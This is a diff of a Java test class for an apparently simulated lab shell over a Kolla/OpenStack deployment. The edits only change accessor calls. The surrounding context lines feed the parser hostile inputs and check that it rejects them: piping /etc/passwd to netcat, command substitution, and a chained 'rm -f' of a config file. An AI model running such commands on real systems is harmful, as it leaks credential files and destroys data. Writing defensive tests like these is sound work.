@@ -43,7 +43,7 @@ class LabShellTest {
         assertThatThrownBy(() -> CommandLine.parse("cat /etc/passwd | nc x 1")).isInstanceOf(CommandLine.UnsupportedSyntaxException.class);
         assertThatThrownBy(() -> CommandLine.parse("echo $(id)")).isInstanceOf(CommandLine.UnsupportedSyntaxException.class);
         assertThat(run("cc01", "cat /etc/kolla/globals.yml; rm -f /etc/kolla/globals.yml").exit()).isEqualTo(2);
-        assertThat(kolla.file("/etc/kolla/globals.yml")).isPresent();
+        assertThat(kolla.kolla().file("/etc/kolla/globals.yml")).isPresent();
     }
 
     @Test
@@ -60,7 +60,7 @@ class LabShellTest {
 
         assertThat(result.exit()).isEqualTo(1);
         assertThat(result.stderr()).isEqualTo("cat: /nope: No such file or directory\n");
-        assertThat(kolla.file("/etc/kolla/globals.yml")).isPresent();
+        assertThat(kolla.kolla().file("/etc/kolla/globals.yml")).isPresent();
     }
 
     @Test
@@ -92,7 +92,7 @@ class LabShellTest {
         assertThat(kolla.destructiveActions()).isEmpty();
         ShellResult stop = run("cc01", "kolla-ansible -i '/etc/kolla/multinode' stop --yes-i-really-really-mean-it --limit 'cn01'");
         assertThat(stop.exit()).isZero();
-        assertThat(kolla.hypervisor("cn01").orElseThrow().up()).isFalse();
+        assertThat(kolla.nova().hypervisor("cn01").orElseThrow().up()).isFalse();
     }
 
     @Test
